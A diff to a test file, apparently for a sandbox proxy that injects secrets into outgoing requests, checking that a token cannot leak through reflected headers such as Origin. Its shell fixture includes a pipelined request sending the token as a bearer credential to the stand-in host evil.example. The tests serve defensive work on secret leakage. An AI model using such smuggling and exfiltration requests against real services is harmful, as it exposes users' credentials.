@@ -319,7 +319,7 @@ def log_lines(raw):
 GOT_THROUGH = r"""
 echo "== env"; echo "token=$API_TOKEN"
 echo "== reflect"
-printf 'GET /reflect HTTP/1.1\r\nHost: api.bbt\r\nOrigin: %s\r\n\r\n' "$API_TOKEN" | req api.bbt PORT 0
+printf 'GET /reflect HTTP/1.1\r\nHost: api.bbt\r\nOrigin: %s\r\nAuthorization: Bearer %s\r\n\r\n' "$API_TOKEN" "$API_TOKEN" | req api.bbt PORT 0
 echo "== s-pipelined"
 printf 'GET /s-pipe-1 HTTP/1.1\r\nHost: api.bbt\r\n\r\nGET /s-pipe-2 HTTP/1.1\r\nHost: evil.example\r\nAuthorization: Bearer %s\r\n\r\n' "$API_TOKEN" | req api.bbt PORT 0
 echo "== s-absolute"
@@ -362,10 +362,16 @@ def test_a_reflected_header_does_not_bring_the_secret_into_the_guest(got_through
     open the echo needs no such endpoint. Observed when written: the guest reads
     'Access-Control-Allow-Origin: <the real value>'. Substituting only in Authorization (or
     the header a secret names), and replacing the value by its placeholder in what the host
-    sends back, would each stop this one."""
-    out, _, _ = got_through
+    sends back, would each stop this one. Fixed: the value goes only into credential headers
+    (Authorization, Proxy-Authorization, X-Api-Key and a secret's `headers:`); a placeholder
+    in Origin stays and counts as an attempted leak."""
+    out, lines, heads = got_through
     assert "Access-Control-Allow-Origin" in out["reflect"], out  # the request got through
     assert VALUE not in out["reflect"], out["reflect"]
+    head = next(h for h in heads if h.startswith("GET /reflect "))
+    assert f"Authorization: Bearer {VALUE}" in head, head
+    assert "Origin: BLUEBOX_SECRET_" in head, head
+    assert any(e.get("brokered") and e.get("leaks") for e in lines), lines
 
 
 def _target_host(head):
